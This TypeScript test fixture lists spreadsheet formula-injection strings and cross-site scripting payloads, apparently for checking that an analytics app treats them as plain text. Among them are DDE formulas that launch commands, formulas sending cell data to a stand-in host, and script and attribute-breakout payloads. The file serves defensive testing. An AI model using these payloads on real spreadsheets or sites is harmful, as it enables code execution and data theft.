// Texts that do harm where a program takes them for more than text: formulas in a spreadsheet, markup and script in a page. Each would show
// that it ran by setting `globalThis.ran`, or by a dialog. None is twice here; those with control characters are no ids, but may be pages.

import { limits } from "../../src/limits.ts";

/** Formulas, and what leads to one: 40. */
export const formulas: readonly string[] = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(A1:A9)",
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-cmd|' /C calc'!A0",
  "@cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"x")',
  "=MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''",
  '=HYPERLINK("http://x.invalid/?q="&A1,"click")',
  '=IMPORTXML(CONCAT("http://x.invalid/",A1),"//a")',
  '=WEBSERVICE("http://x.invalid/"&A1)',
  '=IMAGE("http://x.invalid/"&A1)',
  '=1+1";=1+1;"',
  '"=1+1"',
  "'=1+1",
  "''=1+1",
  "' =1+1",
  " =1+1",
  "\u00a0=1+1",
  "\u3000@A1",
  "\ufeff=1+1",
  "\u200b=1+1",
  "\u202e=1+1",
  "\u2066+1",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(A1)",
  "−1+A1",
  "a;=1+1",
  "a; =1+1;b",
  'a;"=1+1;b',
  "a;'=1+1",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "a\t+1",
  "a\r\n@A1,b",
];

const RUN = "globalThis.ran=1", JS = `javascript:${RUN}`;

/** Markup, script, and what breaks out of an attribute, a string or a template: 50. */
export const markup: readonly string[] = [
  `<script>${RUN}</script>`,
  `<SCRIPT >${RUN}</SCRIPT >`,
  `<scr<script>ipt>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<script src=data:,${RUN}></script>`,
  `<script type=module>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}">`,
  `<img/src=x/onerror=${RUN}//`,
  `<img src=x:x onerror=alert(1)>`,
  `<image href=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x>`,
  `<svg><a href="${JS}"><text>x</text></a>`,
  `<math><mtext><img src=x onerror=${RUN}>`,
  `<body onload=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<input autofocus onfocus=${RUN}>`,
  `<iframe srcdoc="<script>parent.ran=1</script>">`,
  `<iframe src="${JS}"></iframe>`,
  `<object data="${JS}"></object>`,
  `<embed src="${JS}">`,
  `<form action="${JS}"><button>x</button></form>`,
  `<base href="http://x.invalid/">`,
  `<meta http-equiv=refresh content="0;url=${JS}">`,
  `<link rel=stylesheet href=http://x.invalid/>`,
  `<style>*{display:none}</style>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `"><script>${RUN}</script>`,
  `'><img src=x onerror=${RUN}>`,
  `" autofocus onfocus="${RUN}`,
  `' onmouseover='${RUN}`,
  "` onclick=`" + RUN,
  `";${RUN};//`,
  `');${RUN};//`,
  "${" + RUN + "}",
  `{{constructor.constructor('${RUN}')()}}`,
  `<%= ${RUN} %>`,
  JS,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `＜script＞${RUN}＜/script＞`,
  `\u202e<script>${RUN}</script>\u2066\u200f`,
];

/** Whether a text can be an id: those hold no control characters. */
export function fitsId(text: string): boolean {
  // deno-lint-ignore no-control-regex -- what ids may not hold
  return !/[\x00-\x1f\x7f]/.test(text);
}

/** The category of an event that is to hold a text: none where it is too long for one. */
export function categoryOf(text: string): { category?: string } {
  return new TextEncoder().encode(text).length <= limits.shortTextBytesMax ? { category: text } : {};
}

/** Clicks of a session that a rule takes for a bot, once. */
export function botClicks(session_id: string, start: number, more: object): object[] {
  return Array.from({ length: 55 }, (_, i) => ({ session_id, timestamp: start + i * 20, item_id: 7, ...more }));
}
